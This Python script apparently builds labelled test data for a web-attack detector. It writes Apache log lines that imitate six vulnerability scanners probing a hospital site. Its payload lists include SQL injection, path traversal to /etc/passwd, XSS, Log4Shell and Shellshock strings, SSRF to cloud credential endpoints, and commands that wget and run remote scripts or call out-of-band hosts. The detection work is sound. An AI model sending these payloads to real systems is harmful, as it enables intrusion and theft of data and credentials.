"""Write the labelled scanner corpus: scanners/access.log and scanners/labels.jsonl.

Every line is an Apache combined access line of the kind a web server writes when Nikto,
sqlmap, Nuclei, OWASP ZAP, Acunetix or wfuzz scan a public hospital site. The payloads are the
project's own, written from the payload families these tools send (their documented techniques:
sqlmap's boolean/error/time/UNION/stacked techniques and tamper scripts, ZAP's active-scan rules,
Nuclei's CVE templates, Acunetix's PATH_INFO and out-of-band checks, wfuzz's injection
wordlists, Nikto's CGI tests), encoded the way each tool encodes them (sqlmap `%20`, ZAP `+` and
`%XX` for everything else, Nuclei and Nikto raw, Acunetix mixed). Deterministic: the same file
comes out on every run (tests check that the committed files are current).

Labels (one JSON object per line, same order): tool, family, and `payload`: true when the line
carries an unmistakable attack payload (what recall is measured on), false for scanner requests
that carry none (directory brute force, eye-catcher strings, a lone quote): those are counted but
not in the recall. Run: python tests/data/web_attacks/make_scanner_corpus.py
"""
from __future__ import annotations

import datetime as dt
import json
import random
from pathlib import Path
from urllib.parse import quote, quote_plus

HERE = Path(__file__).resolve().parent / "scanners"
START = dt.datetime(2026, 11, 27, 19, 40, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))

NIKTO_UA = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test:06d})"
SQLMAP_UA = "sqlmap/1.8.11#stable (https://sqlmap.org)"
SQLMAP_RANDOM_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
NUCLEI_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
]
ZAP_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"
ACUNETIX_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
               "Chrome/87.0.4280.88 Safari/537.36")
WFUZZ_UA = "Wfuzz/3.1.0"

ADDRESSES = {"nikto": "185.220.101.47", "sqlmap": "45.137.21.9", "nuclei": "141.98.11.62",
             "zap": "203.0.113.77", "acunetix": "198.51.100.201", "wfuzz": "92.118.39.15"}


def raw(payload: str) -> str:
    """As Nikto, Nuclei and wfuzz send it: unencoded (Apache escapes quotes in its log)."""
    return payload.replace("\\", "\\\\").replace('"', '\\"')


def sqlmap_enc(payload: str) -> str:
    """sqlmap's encoding: every reserved character as %XX, spaces as %20."""
    return quote(payload, safe="")


def zap_enc(payload: str) -> str:
    """ZAP's (Java URLEncoder) encoding: spaces as +, the rest of the reserved set as %XX."""
    return quote_plus(payload, safe="*")


def acu_enc(payload: str) -> str:
    """Acunetix leaves parentheses and a few marks alone and encodes the rest."""
    return quote(payload, safe="()*!")


class Corpus:
    """Lines and labels under construction."""

    def __init__(self, seed: int = 20261127) -> None:
        self.rng = random.Random(seed)
        self.clock = START
        self.lines: list[str] = []
        self.labels: list[dict] = []
        self.nikto_test = 0

    def add(self, tool: str, family: str, payload: bool, target: str, *, method: str = "GET",
            ua: str | None = None, referrer: str = "-", status: int | None = None) -> None:
        """One access line from `tool` for `target` (already encoded as the tool sends it)."""
        self.clock += dt.timedelta(milliseconds=self.rng.randint(40, 900))
        if ua is None:
            ua = self.default_ua(tool)
        if status is None:
            status = self.rng.choice([200, 200, 404, 404, 403, 500, 302])
        size = self.rng.randint(180, 24000) if status != 304 else 0
        when = self.clock.strftime("%d/%b/%Y:%H:%M:%S %z")
        line = (f'{ADDRESSES[tool]} - - [{when}] "{method} {target} HTTP/1.1" {status} {size} '
                f'"{referrer}" "{ua}"')
        self.lines.append(line)
        self.labels.append({"tool": tool, "family": family, "payload": payload})

    def default_ua(self, tool: str) -> str:
        if tool == "nikto":
            self.nikto_test += self.rng.randint(1, 40)
            return NIKTO_UA.format(test=self.nikto_test)
        if tool == "sqlmap":
            return SQLMAP_UA if self.rng.random() < 0.5 else SQLMAP_RANDOM_UA
        if tool == "nuclei":
            return self.rng.choice(NUCLEI_UAS)
        return {"zap": ZAP_UA, "acunetix": ACUNETIX_UA, "wfuzz": WFUZZ_UA}[tool]


# ---------------------------------------------------------------------------------------------
# Nikto: CGI and known-file tests, raw payloads, its own user agent
# ---------------------------------------------------------------------------------------------

NIKTO_PAYLOADS = [
    ("traversal", "/index.php?page=../../../../../../../../etc/passwd"),
    ("traversal", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("traversal", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/windows/win.ini"),
    ("traversal", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir+c:\\"),
    ("traversal", "/msadc/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir"),
    ("traversal", "/../../../../../../../../../../etc/passwd"),
    ("traversal", "/cgi-bin/viewsource?../../../../../../../etc/passwd"),
    ("traversal", "/download.php?file=....//....//....//etc/passwd"),
    ("xss", "/?mod=<script>alert(document.cookie)</script>&op=browse"),
    ("xss", "/phpinfo.php?VARIABLE=<script>alert('Vulnerable')</script>"),
    ("xss", "/servlet/org.apache.catalina.servlets.WebdavStatus/<SCRIPT>alert(document.domain)</SCRIPT>"),
    ("xss", "/<script>alert('Vulnerable')</script>.aspx"),
    ("xss", "/index.php/%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    ("xss", "/search.php?searchstring=<IMG%20SRC=javascript:alert(document.cookie)>"),
    ("xss", "/error/500error.jsp?et=1<script>alert('Vulnerable')</script>;"),
    ("rfi", "/index.php?page=http://cirt.net/rfiinc.txt?"),
    ("rfi", "/include.php?path=http://cirt.net/rfiinc.txt??"),
    ("rfi", "/modules/mod_main.php?mosConfig_absolute_path=http://cirt.net/rfiinc.txt?"),
    ("rfi", "/inc/header.php?incdir=http://cirt.net/rfiinc.txt?"),
    ("cmdi", "/cgi-bin/test.cgi?|id|"),
    ("cmdi", "/cgi-bin/finger?;cat%20/etc/passwd"),
    ("cmdi", "/cgi-bin/webdist.cgi?distloc=;cat%20/etc/passwd"),
    ("cmdi", "/cgi-bin/php.cgi?/etc/passwd"),
    ("sqli", "/index.php?id=1'%20or%20'1'='1"),
    ("sqli", "/login.asp?user=admin'--"),
    ("sensitive", "/.git/config"),
    ("sensitive", "/.env"),
    ("sensitive", "/wp-config.php.bak"),
    ("sensitive", "/.htpasswd"),
    ("sensitive", "/server-status"),
    ("sensitive", "/etc/passwd"),
]
NIKTO_RECON = ["/", "/robots.txt", "/admin/", "/backup/", "/images/", "/test/", "/cgi-bin/",
               "/icons/README", "/manual/", "/phpmyadmin/", "/xmlrpc.php", "/crossdomain.xml",
               "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "/login.php", "/CHANGELOG.txt",
               "/sitemap.xml", "/nikto-test-qVx8mFpa.html", "/localstart.asp"]
NIKTO_SHELLSHOCK = "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;"


def nikto(c: Corpus) -> None:
    for path in NIKTO_RECON:
        c.add("nikto", "recon", False, path, status=c.rng.choice([404, 404, 200, 403]))
    for family, target in NIKTO_PAYLOADS:
        c.add("nikto", family, True, raw(target))
    for cgi in ("/cgi-bin/status", "/cgi-bin/test.sh", "/cgi-bin/admin.cgi"):
        c.add("nikto", "shellshock", True, cgi, ua=NIKTO_SHELLSHOCK)
        c.add("nikto", "shellshock", True, cgi, referrer=NIKTO_SHELLSHOCK)


# ---------------------------------------------------------------------------------------------
# sqlmap: its techniques on a numeric and a string parameter, and in the path (`*` mark)
# ---------------------------------------------------------------------------------------------

SQLMAP_PAYLOADS = [
    "1 AND 4132=4132",
    "1 AND 4132=8571",
    "1) AND 5913=5913 AND (6754=6754",
    "1' AND 3841=3841 AND 'kYzC'='kYzC",
    "1' AND 3841=9254 AND 'kYzC'='kYzC",
    "1 OR NOT 6012=6012",
    "1 AND EXTRACTVALUE(8126,CONCAT(0x5c,0x71706a7671,(SELECT (ELT(8126=8126,1))),0x7162767a71))",
    "1 AND 7718=CAST((CHR(113)||CHR(112)||CHR(106)||CHR(118)||CHR(113))||(SELECT (CASE WHEN (7718=7718) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(98)||CHR(118)||CHR(122)||CHR(113)) AS NUMERIC)",
    "1 AND 5021=CONVERT(INT,(SELECT CHAR(113)+CHAR(112)+CHAR(106)+(SELECT (CASE WHEN (5021=5021) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))",
    "1;SELECT PG_SLEEP(5)--",
    "1;WAITFOR DELAY '0:0:5'--",
    "1 AND (SELECT 6868 FROM (SELECT(SLEEP(5)))jLbm)",
    "1' AND SLEEP(5) AND 'xYzQ'='xYzQ",
    "1 AND 2277=(SELECT 2277 FROM PG_SLEEP(5))",
    "1 AND 8745=DBMS_PIPE.RECEIVE_MESSAGE(CHR(72)||CHR(80)||CHR(119)||CHR(75),5)",
    "1 ORDER BY 1-- -",
    "1 ORDER BY 7-- -",
    "1 UNION ALL SELECT NULL,NULL,NULL-- -",
    "1 UNION ALL SELECT NULL,CONCAT(0x71627a7a71,0x6f54425a4d4b,0x71706a6b71),NULL-- -",
    "-5623 UNION ALL SELECT 75,75,CONCAT(0x71627a7a71,IFNULL(CAST(schema_name AS NCHAR),0x20),0x71706a6b71) FROM INFORMATION_SCHEMA.SCHEMATA-- -",
    "1 AND 4132=4132 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#",
    "(SELECT (CASE WHEN (6412=6412) THEN 1 ELSE (SELECT 3012 UNION SELECT 2187) END))",
    "1 RLIKE (SELECT (CASE WHEN (1294=1294) THEN 1 ELSE 0x28 END))",
    "1 AND GTID_SUBSET(CONCAT(0x71706a7671,(SELECT (ELT(3109=3109,1))),0x7162767a71),3109)",
]
SQLMAP_TAMPERED = [  # --tamper space2comment, between, charencode, chardoubleencode
    "1/**/AND/**/4132=4132",
    "1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,NULL--/**/-",
    "1 AND 4132 BETWEEN 4132 AND 4132",
]
SQLMAP_PROBES = ["1%29%22.%2C%28%28%27.%27%22", "1%27ZpnW%3C%27%22%3EOWnT", "1", "2"]


def char_encode(text: str, times: int) -> str:
    """sqlmap's charencode (1) and chardoubleencode (2): every character as %XX (%25XX)."""
    once = "".join(f"%{ord(ch):02X}" for ch in text)
    return once if times == 1 else once.replace("%", "%25")


def sqlmap(c: Corpus) -> None:
    for probe in SQLMAP_PROBES:
        c.add("sqlmap", "probe", False, f"/fr/actualites/article.php?id={probe}")
    for payload in SQLMAP_PAYLOADS:
        c.add("sqlmap", "sqli", True, f"/fr/actualites/article.php?id={sqlmap_enc(payload)}")
        string = payload.replace("1", "urgences", 1) if payload.startswith("1") else payload
        c.add("sqlmap", "sqli", True, f"/recherche?q={sqlmap_enc(string)}&page=1")
    for payload in SQLMAP_TAMPERED:
        c.add("sqlmap", "sqli", True, f"/fr/actualites/article.php?id={sqlmap_enc(payload)}")
    for payload in ("1 AND 4132=4132", "1 UNION ALL SELECT NULL,NULL-- -", "1 AND SLEEP(5)"):
        c.add("sqlmap", "sqli", True, f"/fr/actualites/article.php?id={char_encode(payload, 1)}")
        c.add("sqlmap", "sqli_double", True, f"/fr/actualites/article.php?id={char_encode(payload, 2)}")
    for payload in SQLMAP_PAYLOADS[:12]:  # URI injection point: /services/<id>/horaires
        c.add("sqlmap", "sqli_path", True, f"/services/{sqlmap_enc(payload)}/horaires")


# ---------------------------------------------------------------------------------------------
# Nuclei: CVE and exposure templates, raw or as the template encodes them, browser user agents
# ---------------------------------------------------------------------------------------------

OAST = ["cu3k9f2s7lmc73dq1b60x8f1s5u9e3ko.oast.fun", "ct8bq5hg3n7c73a0c9m0ywr5b7k1i6do.oast.pro",
        "d1f0a3s4vgbc73cb9v5gdxq5mfp4h7ju.oast.live", "c5k2ad0t3bk2l1sm1r9gcg7bhbyyyyyyn.interact.sh"]

NUCLEI_PAYLOADS = [
    ("traversal", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("traversal", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("traversal_double", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"),
    ("traversal_double", "/static/..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("traversal_double", "/assets/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("traversal", "/..%5c..%5c..%5c..%5c..%5cwindows/win.ini"),
    ("traversal", "/public/plugins/alertlist/../../../../../../../../etc/passwd"),
    ("traversal", "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("traversal", "/api/download?file=....//....//....//....//etc/passwd"),
    ("traversal", "/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd"),
    ("traversal", "/index.php?lang=..%2F..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron"),
    ("traversal", "/WEB-INF/web.xml;.js"),
    ("log4shell", "/?x=${jndi:ldap://${hostName}.{oast}/a}"),
    ("log4shell", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F%24%7BhostName%7D.{oast}%2Fa%7D"),
    ("log4shell", "/?id=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{oast}/z}"),
    ("log4shell", "/?id=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{oast}/poc}"),
    ("log4shell", "/solr/admin/cores?action=${jndi:ldap://${sys:java.version}.{oast}/}"),
    ("ssrf", "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "/fetch?uri=http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("ssrf", "/api/image?src=http%3A%2F%2F169.254.169.254%2Fmetadata%2Fv1.json"),
    ("ssrf", "/preview?link=http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ssrf", "/redirect.php?to=http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "/webhook?callback=http://169.254.170.2/v2/credentials/"),
    ("ssrf", "/render?url=gopher://127.0.0.1:6379/_INFO"),
    ("ssrf", "/render?url=file:///etc/passwd"),
    ("java", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/"),
    ("java", "/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()}"),
    ("java", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    ("ssti", "/?name={{7*7}}"),
    ("ssti", "/greet?name=%24%7B7*7%7D"),
    ("ssti", "/?q=${{1337*1337}}"),
    ("ssti", "/page?template=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%7D%7D"),
    ("cmdi", "/cgi-bin/ping.cgi?host=127.0.0.1;id"),
    ("cmdi", "/api/diag?ip=127.0.0.1|cat%20/etc/passwd"),
    ("cmdi", "/tools/ping?addr=%24%28nslookup%20{oast}%29"),
    ("cmdi", "/cgi-bin/admin.cgi?cmd=`nslookup%20{oast}`"),
    ("cmdi", "/shell?cd+/tmp;wget+http://45.137.21.9/x.sh;chmod+777+x.sh;sh+x.sh"),
    ("cmdi", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://45.137.21.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
    ("cmdi", "/api/exec?host=x${IFS}%26%26${IFS}id"),
    ("rfi", "/index.php?page=php://filter/convert.base64-encode/resource=index"),
    ("rfi", "/index.php?file=php://input"),
    ("rfi", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("rfi", "/index.php?page=expect://id"),
    ("rfi", "/view.php?doc=phar://./uploads/avatar.jpg/x"),
    ("rfi", "/index.php?inc=https://{oast}/shell.txt"),
    ("crlf", "/%0d%0aSet-Cookie:crlfinjection=crlfinjection"),
    ("crlf", "/%E5%98%8D%E5%98%8ASet-Cookie:crlfinjection=crlfinjection"),
    ("sensitive", "/.git/config"),
    ("sensitive", "/.env"),
    ("sensitive", "/.env.production"),
    ("sensitive", "/.aws/credentials"),
    ("sensitive", "/wp-config.php.bak"),
    ("sensitive", "/wp-config.php~"),
    ("sensitive", "/actuator/env"),
    ("sensitive", "/actuator/heapdump"),
    ("sensitive", "/.svn/entries"),
    ("sensitive", "/.DS_Store"),
    ("sensitive", "/config/database.yml"),
    ("sensitive", "/phpinfo.php"),
    ("sensitive", "/server-status"),
    ("sensitive", "/.ssh/id_rsa"),
]
NUCLEI_HEADER = [
    ("log4shell", "ua", "${jndi:ldap://${hostName}.{oast}/a}"),
    ("log4shell", "referrer", "${jndi:ldap://${hostName}.{oast}/a}"),
    ("log4shell", "ua", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{oast}/a}"),
    ("shellshock", "ua", "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'"),
    ("shellshock", "referrer", "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"),
]
NUCLEI_RECON = ["/", "/favicon.ico", "/robots.txt", "/wp-login.php", "/api/v1/status",
                "/sitemap.xml", "/.well-known/security.txt"]


def nuclei(c: Corpus) -> None:
    for path in NUCLEI_RECON:
        c.add("nuclei", "recon", False, path)
    for k, (family, target) in enumerate(NUCLEI_PAYLOADS):
        oast = OAST[k % len(OAST)]
        target = target.replace("{oast}", oast)
        c.add("nuclei", family, True, raw(target))
    for k, (family, where, payload) in enumerate(NUCLEI_HEADER):
        value = payload.replace("{oast}", OAST[k % len(OAST)])
        if where == "ua":
            c.add("nuclei", family, True, "/cgi-bin/status" if family == "shellshock" else "/",
                  ua=raw(value))
        else:
            c.add("nuclei", family, True, "/", referrer=raw(value))


# ---------------------------------------------------------------------------------------------
# OWASP ZAP: active-scan rules on each parameter of a form, Firefox user agent
# ---------------------------------------------------------------------------------------------

ZAP_PAYLOADS = [
    ("xss", "<scrIpt>alert(1);</scRipt>"),
    ("xss", "\"><scrIpt>alert(1);</scRipt>"),
    ("xss", "javascript:alert(1);"),
    ("xss", "<img src=x onerror=prompt()>"),
    ("xss", "'\"<img src=x onerror=prompt()>"),
    ("xss", "</p><scrIpt>alert(1);</scRipt><p>"),
    ("xss", "\" onMouseOver=\"alert(1);"),
    ("sqli", "' AND '1'='1' -- "),
    ("sqli", "' OR '1'='1' -- "),
    ("sqli", "ZAP OR 1=1 -- "),
    ("sqli", "ZAP' OR '1'='1' -- "),
    ("sqli", "' UNION ALL select NULL -- "),
    ("sqli", "case randomblob(100000) when not null then 1 else 1 end "),
    ("sqli", "' | case randomblob(1000000) when not null then \"\" else \"\" end | '"),
    ("sqli", "field' / sleep(15) / '"),
    ("sqli", "\" / sleep(15) / \""),
    ("sqli", "field and 0 in (select sleep(15) ) -- "),
    ("sqli", "; waitfor delay '0:0:15' -- "),
    ("sqli", "field) waitfor delay '0:0:15' -- "),
    ("sqli", "' and exists ( select sleep(15) ) -- "),
    ("sqli", "'; select pg_sleep(15); -- "),
    ("sqli", "field'||pg_sleep(15)||'"),
    ("traversal", "/etc/passwd"),
    ("traversal", "../../../../../../../../../../../../../../../../etc/passwd"),
    ("traversal", "c:\\Windows\\system.ini"),
    ("traversal", "..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\Windows\\system.ini"),
    ("traversal", "/WEB-INF/web.xml"),
    ("traversal", "../../../../WEB-INF/web.xml"),
    ("traversal", "file:///etc/passwd"),
    ("cmdi", "field;cat /etc/passwd;"),
    ("cmdi", "field&cat /etc/passwd&"),
    ("cmdi", "field|cat /etc/passwd"),
    ("cmdi", "field\ncat /etc/passwd\n"),
    ("cmdi", "field`cat /etc/passwd`"),
    ("cmdi", "field$(cat /etc/passwd)"),
    ("cmdi", "field&&cat /etc/passwd"),
    ("cmdi", "field;type %SYSTEMROOT%\\win.ini"),
    ("cmdi", "field|type %SYSTEMROOT%\\win.ini"),
    ("cmdi", "field;get-help"),
    ("cmdi", "field&sleep 15&"),
    ("cmdi", "field;sleep 15;"),
    ("cmdi", "field|sleep 15"),
    ("cmdi", "field&timeout /T 15"),
    ("cmdi", "field;start-sleep -s 15"),
    ("cmdi", "field\";sleep 15;\""),
    ("ssi", "<!--#EXEC cmd=\"ls /\"-->"),
    ("ssi", "\"><!--#EXEC cmd=\"dir \\\"--><"),
    ("log4shell", "${jndi:ldap://cu3k9f2s7lmc73dq1b60x8f1s5u9e3ko.oast.fun/abc}"),
    ("ssti", "zj<%=1289*7823%>zj"),
    ("ssti", "zj${1289*7823}zj"),
    ("ssti", "zj{{1289*7823}}zj"),
    ("ssti", "zj#{1289*7823}zj"),
    ("crlf", "\r\nSet-cookie: Tamper=5765eb3e-2e82-4b25-8ab4-8d5b0e3a8a27"),
]
ZAP_RFI = ["http://www.google.com/", "http://www.google.com:80/", "https://www.google.com/",
           "http://www.google.com/search?q=OWASP%20ZAP"]
ZAP_PROBES = ["'", "\"", ";", "'(", "0W45pz4p", "thishouldnotexistandhopefullyitwillnot",
              "ZAP", "2-1", ""]


def zap(c: Corpus) -> None:
    forms = [("/recherche", "q", "&page=1"), ("/fr/rendez-vous", "service", "&date=2026-12-01"),
             ("/download.php", "file", "")]
    for probe in ZAP_PROBES:
        path, name, rest = forms[0]
        c.add("zap", "probe", False, f"{path}?{name}={zap_enc(probe)}{rest}")
    for k, (family, payload) in enumerate(ZAP_PAYLOADS):
        path, name, rest = forms[k % len(forms)]
        c.add("zap", family, True, f"{path}?{name}={zap_enc(payload)}{rest}")
    for payload in ZAP_RFI:
        c.add("zap", "rfi", True, f"/index.php?page={zap_enc(payload)}")
        c.add("zap", "rfi", True, f"/download.php?file={zap_enc(payload)}")


# ---------------------------------------------------------------------------------------------
# Acunetix: parameters, PATH_INFO and headers; out-of-band checks on bxss.me
# ---------------------------------------------------------------------------------------------

ACU_PAYLOADS = [
    ("xss", "'\"()&%<zzz><ScRiPt >vbTD(9426)</ScRiPt>"),
    ("xss", "1<ScRiPt>vbTD(9578)</ScRiPt>"),
    ("xss", "<svg onload=vbTD(9133)>"),
    ("xss", "<img/src=\">\" onerror=alert(9714)>"),
    ("xss", "<iframe src=javascript:vbTD(9962)>"),
    ("xss", "1\"onmouseover=vbTD(95827)\""),
    ("sqli", "-1' OR 2+198-198-1=0+0+0+1 -- "),
    ("sqli", "-1\" OR 2+198-198-1=0+0+0+1 -- "),
    ("sqli", "-1 OR 2+198-198-1=0+0+0+1"),
    ("sqli", "if(now()=sysdate(),sleep(15),0)"),
    ("sqli", "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"),
    ("sqli", "0\"XOR(if(now()=sysdate(),sleep(15),0))XOR\"Z"),
    ("sqli", "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+(select(0)from(select(sleep(15)))v)+\"*/"),
    ("sqli", "1 waitfor delay '0:0:15' -- "),
    ("sqli", "-1; waitfor delay '0:0:15' -- "),
    ("sqli", "-1); waitfor delay '0:0:15' -- "),
    ("sqli", "-5 OR 995=(SELECT 995 FROM PG_SLEEP(15))--"),
    ("sqli", "1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),15)||'"),
    ("sqli", "-1' OR 3*2*1=6 AND 000123=000123 -- "),
    ("sqli", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT 1),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"),
    ("traversal", "../../../../../../../../../../etc/passwd"),
    ("traversal", "../../../../../../../../../../etc/passwd\x00.jpg"),
    ("traversal", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal", "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("traversal", "/..\\..\\..\\..\\..\\..\\windows\\win.ini"),
    ("traversal", "WEB-INF/web.xml"),
    ("traversal", "....//....//....//....//etc/passwd"),
    ("rfi", "http://some-inexistent-website.acu/some_inexistent_file_with_long_name?.jpg"),
    ("rfi", "Http://testasp.vulnweb.com/t/fit.txt"),
    ("rfi", "http://testasp.vulnweb.com/t/fit.txt?.jpg"),
    ("rfi", "hTtP://bxss.me/t/fit.txt"),
    ("cmdi", "$(nslookup -q=cname hitnjvxlxgvbc2d3b3.bxss.me||curl hitnjvxlxgvbc2d3b3.bxss.me)"),
    ("cmdi", "&nslookup -q=cname hitfyzdhvbdqn1a9e2.bxss.me&'\\\"`0&nslookup -q=cname hitfyzdhvbdqn1a9e2.bxss.me&`'"),
    ("cmdi", "`(nslookup -q=cname hitkqpwvnewbx7b4a2.bxss.me||curl hitkqpwvnewbx7b4a2.bxss.me)`"),
    ("cmdi", "|(nslookup -q=cname hitewgzmfxqbw3d8e4.bxss.me||curl hitewgzmfxqbw3d8e4.bxss.me)"),
    ("cmdi", ";(nslookup -q=cname hitpxrmjwydpe5c1d6.bxss.me||curl hitpxrmjwydpe5c1d6.bxss.me)|(nslookup -q=cname hitpxrmjwydpe5c1d6.bxss.me||curl hitpxrmjwydpe5c1d6.bxss.me)&(nslookup -q=cname hitpxrmjwydpe5c1d6.bxss.me||curl hitpxrmjwydpe5c1d6.bxss.me)"),
    ("cmdi", "echo rcgrcj$()\\ ofzvvx\\nz^xyu||a #' &echo rcgrcj$()\\ ofzvvx\\nz^xyu||a #|\" &echo rcgrcj$()\\ ofzvvx\\nz^xyu||a #"),
    ("code", "${@print(md5(31337))}"),
    ("code", "${@print(md5(31337))}\\"),
    ("code", "';print(md5(31337));$a='"),
    ("code", "\";print(md5(31337));$a=\""),
    ("code", "phpinfo()"),
    ("ssti", "${10000323+10000435}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "http://hitqlrmqvnwrz3b7e3.bxss.me/"),
]
ACU_PATH = [  # PATH_INFO injections (the request path after the script)
    ("xss", "/index.php/'\"()&%<zzz><ScRiPt >vbTD(9123)</ScRiPt>", "acu"),
    ("xss", "/index.php/<ScRiPt>vbTD(9124)</ScRiPt>", "raw"),
    ("xss", "/fr/actualites/<ScRiPt >vbTD(9125)</ScRiPt>/", "acu"),
    ("sqli", "/1' waitfor delay '0:0:4'--/", "raw"),
    ("sqli", "/fr/actualites/1' waitfor delay '0:0:15' --/", "acu"),
    ("sqli", "/services/-1 OR 2+198-198-1=0+0+0+1/horaires", "acu"),
    ("sqli", "/services/if(now()=sysdate(),sleep(15),0)/horaires", "acu"),
    ("traversal", "/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "raw"),
    ("traversal", "/static/..%5c..%5c..%5c..%5cwindows%5cwin.ini", "raw"),
    ("cmdi", "/cgi-bin/$(nslookup -q=cname hitzxvqmrlwpj8e2d1.bxss.me||curl hitzxvqmrlwpj8e2d1.bxss.me)", "acu"),
    ("sensitive", "/.git/config", "raw"),
    ("sensitive", "/.env", "raw"),
    ("sensitive", "/web.config.bak", "raw"),
    ("sensitive", "/backup.sql", "raw"),
    ("sensitive", "/wp-config.php.old", "raw"),
]
ACU_HEADER = [
    ("xss", "ua", ACUNETIX_UA + "'\"()&%<zzz><ScRiPt >vbTD(9631)</ScRiPt>"),
    ("xss", "referrer", "https://www.chu-exemple.fr/'\"()&%<zzz><ScRiPt >vbTD(9632)</ScRiPt>"),
    ("sqli", "ua", ACUNETIX_UA + "' AND SLEEP(15) AND 'a'='a"),
    ("sqli", "referrer", "-1' OR 2+198-198-1=0+0+0+1 -- "),
    ("sqli", "referrer", "if(now()=sysdate(),sleep(15),0)"),
    ("cmdi", "ua", "$(nslookup -q=cname hitbyswtxdqrjn5a9b.bxss.me||curl hitbyswtxdqrjn5a9b.bxss.me)"),
    ("shellshock", "ua", "() { _; } >_[$($())] { echo 1; }"),
    ("shellshock", "referrer", "() { :;}; echo; /bin/bash -c 'nslookup -q=cname hitrgamrxhxvl9e3c1.bxss.me'"),
    ("log4shell", "ua", "${jndi:dns://hitklbfmqxazq4e9d2.bxss.me/ZZZZ}"),
    ("log4shell", "referrer", "${${::-j}ndi:dns://hitklbfmqxazq4e9d2.bxss.me/ZZZZ}"),
]
ACU_RECON = ["/acunetix-wvs-test-for-some-inexistent-file", "/", "/index.php", "/robots.txt",
             "/fr/actualites/", "/sitemap.xml", "/WS_FTP.LOG", "/_vti_inf.html"]
ACU_PROBES = ["1'\"", "1%C0%A7%C0%A2%252527%252522", "JyI=", "@@eBJqZ", "1'"]


def acunetix(c: Corpus) -> None:
    for path in ACU_RECON:
        c.add("acunetix", "recon", False, path)
    for probe in ACU_PROBES:
        c.add("acunetix", "probe", False, f"/recherche?q={acu_enc(probe)}")
    params = [("/recherche", "q"), ("/fr/actualites/article.php", "id"), ("/index.php", "page"),
              ("/download.php", "file")]
    for k, (family, payload) in enumerate(ACU_PAYLOADS):
